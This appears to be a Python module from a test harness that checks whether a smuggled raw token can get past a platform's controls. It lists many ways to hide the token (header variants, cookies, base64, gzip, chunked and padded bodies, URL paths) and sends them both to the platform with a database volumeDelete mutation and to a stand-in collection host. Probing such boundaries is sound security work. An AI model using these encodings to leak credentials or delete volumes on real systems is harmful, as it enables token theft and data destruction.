"""The raw token, smuggled in, put wherever a request has room for it: to the platform, and out to another host."""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
from functools import partial

from ..hands import API, JSON, document
from ..targets import Targets
from . import Attempt
from .outcome import ABSENT, DONE, Result, try_api, try_page

ELSEWHERE = "https://echo.rentals.example/collect"


def attempts(targets: Targets) -> dict[str, Attempt]:
    """Name the attempts."""
    raw = targets.raw()
    if not raw:
        return {"any position": partial(Result, ABSENT, 0, "no token was smuggled in")}
    body = document(f'mutation {{ volumeDelete(volumeId: "{targets.database_volume}") }}')
    to_platform: dict[str, tuple[str, ...]] = {name: (*JSON, *how, "-d", body) for name, how in _headers(raw).items()}
    to_platform |= _bodies(raw, targets)
    outside = {name: (*how, "-d", "note=hello") for name, how in _headers(raw).items()}
    outside |= _bodies(raw, targets)
    found: dict[str, Attempt] = {}
    for name, arguments in to_platform.items():
        found[f"platform, {name}"] = partial(try_api, *arguments)
    for name, arguments in outside.items():
        found[f"elsewhere, {name}"] = partial(_collect, ELSEWHERE, arguments)
    for name, suffix in _targets(raw).items():
        found[f"platform, {name}"] = partial(try_api, *JSON, "-d", body, url=API + suffix)
        found[f"elsewhere, {name}"] = partial(_collect, ELSEWHERE + suffix, ())
    return found


def _collect(url: str, arguments: tuple[str, ...]) -> Result:
    """Send to the other host. What it reflects holds the token in some form, so a success shows no body."""
    result = try_page(url, *arguments)
    return Result(DONE, result.status, "collected") if result.outcome == DONE else result


def _headers(raw: str) -> dict[str, tuple[str, ...]]:
    written = {
        "bearer": f"Authorization: Bearer {raw}",
        "lower-case scheme": f"authorization: bearer {raw}",
        "upper-case value": f"Authorization: Bearer {raw.upper()}",
        "spaces around the value": f"Authorization:   Bearer    {raw}  ",
        "no scheme": f"Authorization: {raw}",
        "token scheme": f"Authorization: token {raw}",
        "project token header": f"Project-Access-Token: {raw}",
        "project token header, odd case": f"pRoJeCt-aCCess-tOken: {raw}",
        "cookie": f"Cookie: railway={raw}",
        "cookie, percent-encoded": f"Cookie: railway={_percent(raw)}",
        "header of its own": f"X-Api-Key: {raw}",
        "base64 in a header": f"X-Note: {base64.b64encode(raw.encode()).decode()}",
        "base64url in a header": f"X-Note: {base64.urlsafe_b64encode(f'k:{raw}'.encode()).decode().rstrip('=')}",
        "user agent": f"User-Agent: app/{raw}",
        "referer": f"Referer: https://example.org/?k={raw}",
    }
    headers = {name: ("-H", line) for name, line in written.items()}
    return {
        **headers,
        "basic, as password": ("-u", f"user:{raw}"),
        "basic, as user": ("-u", f"{raw}:"),
        "two authorization headers": ("-H", "Authorization: Bearer none", "-H", f"Authorization: Bearer {raw}"),
        "bearer with a method override": ("-H", f"Authorization: Bearer {raw}", "-H", "X-HTTP-Method-Override: GET"),
    }


def _bodies(raw: str, targets: Targets) -> dict[str, tuple[str, ...]]:
    bearer = ("-H", f"Authorization: Bearer {raw}")
    deletion = document(f'mutation {{ volumeDelete(volumeId: "{targets.database_volume}") }}')
    note = {"note": raw}
    packed = gzip.compress(json.dumps(note).encode()).hex()
    return {
        "body field": (*JSON, "-d", json.dumps(note)),
        "body field, JSON-escaped": (*JSON, "-d", _escaped(raw)),
        "body field, base64": (*JSON, "-d", json.dumps({"note": base64.b64encode(raw.encode()).decode()})),
        "body, chunked": (*JSON, "-H", "Transfer-Encoding: chunked", "-d", json.dumps(note)),
        "body, gzip": (*JSON, "-H", "Content-Encoding: gzip", f"hex:{packed}"),
        "body, form": ("--data-urlencode", f"token={raw}"),
        "body, multipart": ("-F", f"token={raw}"),
        "body, behind 300 kB": (*JSON, f"hex:{(b' ' * 300_000 + json.dumps(note).encode()).hex()}"),
        "bearer, chunked deletion": (*JSON, *bearer, "-H", "Transfer-Encoding: chunked", "-d", deletion),
        "bearer, gzip deletion": (
            *JSON, *bearer, "-H", "Content-Encoding: gzip", f"hex:{gzip.compress(deletion.encode()).hex()}",
        ),
    }  # fmt: skip


def _targets(raw: str) -> dict[str, str]:
    return {
        "query string": f"?token={raw}",
        "query string, percent-encoded": f"?token={_percent(raw)}",
        "query string, base64": f"?token={urllib.parse.quote(base64.b64encode(raw.encode()).decode())}",
        "path": f"/{raw}",
        "path, percent-encoded": f"/{_percent(raw)}",
    }


def _percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


def _escaped(raw: str) -> str:
    return '{"note": "' + "".join(f"\\u{ord(character):04x}" for character in raw) + '"}'
